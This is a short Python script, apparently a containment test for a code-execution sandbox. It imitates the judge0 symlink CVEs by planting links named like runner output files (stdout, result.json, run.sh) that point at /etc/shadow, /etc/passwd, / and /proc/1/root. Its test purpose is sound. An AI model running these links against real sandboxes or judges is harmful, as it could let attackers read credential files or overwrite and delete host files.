# attack: have the supervisor follow our links when it reads, writes, owns or clears (judge0's CVE-2024-28185, -28189)
# expect: CONTAINED
# host: file
# bare: no, there is nobody to follow them
import os
import sys

from hostile import CANARY_FILE, READ_ONLY, contained, finish

TARGETS = [CANARY_FILE or "/etc/shadow", "/etc/passwd", "/", "/proc/1/root", "/dev/null"]
NAMES = ["stdout", "stderr", "stdin", "result", "result.json", "meta", "metadata.txt", "run.sh", "main.py", "output",
         "box", "tmp", ".stdout", "core", "__pycache__", "hostile.py", "runner.py"]

made = 0
for directory in ("/work", "/tmp", "/dev/shm", os.getcwd()):
    for number, name in enumerate(NAMES):
        path = os.path.join(directory, name)
        try:
            if os.path.lexists(path):
                os.rename(path, f"{path}.old")
            os.symlink(TARGETS[number % len(TARGETS)], path)
            made += 1
        except OSError as error:
            if error.errno not in READ_ONLY + (39, 2):
                raise
for target in TARGETS[:1]:
    os.symlink(target, f"/tmp/{os.path.basename(sys.argv[0])}")
contained(f"{made} links wait for somebody who follows them")
finish()
